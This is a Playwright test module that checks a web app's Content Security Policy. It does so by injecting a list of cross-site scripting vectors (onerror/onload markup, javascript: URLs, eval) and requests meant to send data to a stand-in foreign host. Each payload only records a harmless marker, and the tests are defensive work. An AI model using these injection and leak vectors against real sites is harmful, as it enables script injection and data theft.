import type { Browser, Page } from '@playwright/test';
import { newPage, shellStands, type Visitor } from '../support/chromium.ts';
import type { ForeignSite } from '../support/foreign-site.ts';
import type { Tally } from '../support/tally.ts';

/** Set up before any script of a page: what the browser refuses is written down, and so is what ran although it must not. */
const WATCH = `
  globalThis.refused = [];
  addEventListener('securitypolicyviolation', (event) => globalThis.refused.push(event.effectiveDirective + ' ' + event.blockedURI));
  globalThis.ran = [];
`;

/** What somebody who may write into the page would try; each marks itself in \`ran\` where it runs. */
const attempts = (foreign: string): readonly (readonly [string, string])[] => {
  const add = (tag: string, set: string): string =>
    `const it = document.createElement('${tag}'); ${set}; document.body.append(it)`;
  return [
    ['an inline script', add('script', `it.textContent = "ran.push('inline')"`)],
    ['a script from elsewhere', add('script', `it.src = '${foreign}/x.js'`)],
    ['a script of our own origin by its address', add('script', `it.src = '/assets/../assets/x.js'`)],
    ['a script from data', add('script', `it.src = "data:text/javascript,ran.push('data')"`)],
    ['an event in markup', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran.push(1)">')`],
    ['markup', `document.body.innerHTML += '<svg onload="ran.push(2)">'`],
    ['an event attribute', add('img', `it.setAttribute('onerror', "ran.push(3)"); it.src = '/none.png'`)],
    ['a document in a frame', add('iframe', `it.srcdoc = "<script>parent.ran.push(4)<\\/script>"`)],
    ['a javascript address in a frame', add('iframe', `it.src = "javascript:parent.ran.push(5)"`)],
    ['a link to a javascript address', `${add('a', `it.href = "javascript:ran.push(6)"`)}; it.click()`],
    ['text as code', `eval("ran.push(7)")`],
    ['text as a function', `new Function("ran.push(8)")()`],
    ['text in a timer', `setTimeout("ran.push(9)")`],
    ['a worker', `new Worker(URL.createObjectURL(new Blob(["1"]))); ran.push('worker')`],
    ['a worker from elsewhere', `new Worker('${foreign}/x.js'); ran.push('worker')`],
    ['a frame from elsewhere', add('iframe', `it.src = '${foreign}/frame'`)],
    ['an image that tells', add('img', `it.src = '${foreign}/image'`)],
    ['a font that tells', `new FontFace('x', 'url(${foreign}/font)').load().catch(() => 0)`],
    ['a request that tells', `fetch('${foreign}/fetch').catch(() => 0)`],
    ['a beacon that tells', `navigator.sendBeacon('${foreign}/beacon', '1')`],
    ['a socket that tells', `new WebSocket('${foreign.replace('http', 'ws')}/socket')`],
    ['a form that tells', `${add('form', `it.action = '${foreign}/form'`)}; it.submit()`],
    ['another base', add('base', `it.href = '${foreign}/base/'`)],
    ['a style from elsewhere', add('link', `it.rel = 'stylesheet'; it.href = '${foreign}/style'`)],
    ['a style in markup', `document.body.setAttribute('style', 'background: url(${foreign}/inline)')`],
    ['an object', add('object', `it.data = '${foreign}/object'`)],
  ];
};

const marks = (page: Page) =>
  page.evaluate<{ ran: unknown[]; refused: string[]; foreign: boolean }>(
    `({ ran: globalThis.ran ?? [], refused: globalThis.refused ?? [], foreign: globalThis.ranForeign === true })`,
  );

/** Text is made code only after this turn: what an evaluation itself may do is no part of the page's policy. */
const later = (code: string): string =>
  `new Promise((done) => setTimeout(() => { try { ${code} } catch {} setTimeout(done, 60); }))`;

/** A page into which somebody writes still runs nothing of theirs, and sends nothing away. */
export const tryInjections = async (
  { page, origin, site }: { readonly page: Page; readonly origin: string; readonly site: ForeignSite },
  tally: Tally,
): Promise<void> => {
  for (const [what, code] of attempts(site.otherSite)) {
    const before = site.heard.length;
    await page.evaluate(later(code));
    const { ran, foreign } = await marks(page);
    tally.check(ran.length === 0 && !foreign, `${what} runs (${ran.join(', ')})`);
    tally.check(site.heard.length === before, `${what} reaches ${site.heard.at(-1)?.url}`);
    tally.check(page.url().startsWith(`${origin}/`), `${what} leads to ${page.url()}`);
    await page.evaluate('globalThis.ran = []');
  }
  const { refused } = await marks(page);
  tally.check(refused.length >= 15, `the browser reported ${refused.length} refusals: was there a policy at all?`);
};

/** The product itself trips over none of its policy on any of its screens. */
export const walkScreens = async (
  { browser, origin, urls }: { readonly browser: Browser; readonly origin: string; readonly urls: readonly string[] },
  signIn: (page: Page) => Promise<void>,
  tally: Tally,
): Promise<Visitor> => {
  const page = await newPage(browser);
  await page.addInitScript(WATCH);
  await page.goto(`${origin}/dashboards/home`);
  await signIn(page);
  await shellStands(page);
  for (const url of urls) {
    await page.goto(origin + url);
    await shellStands(page);
    await page.locator('main').first().waitFor();
    await page.waitForLoadState('networkidle');
    const { refused } = await marks(page);
    tally.check(refused.length === 0, `${url}: the browser refused ${refused.join('; ')}`);
  }
  return { page, context: page.context() };
};
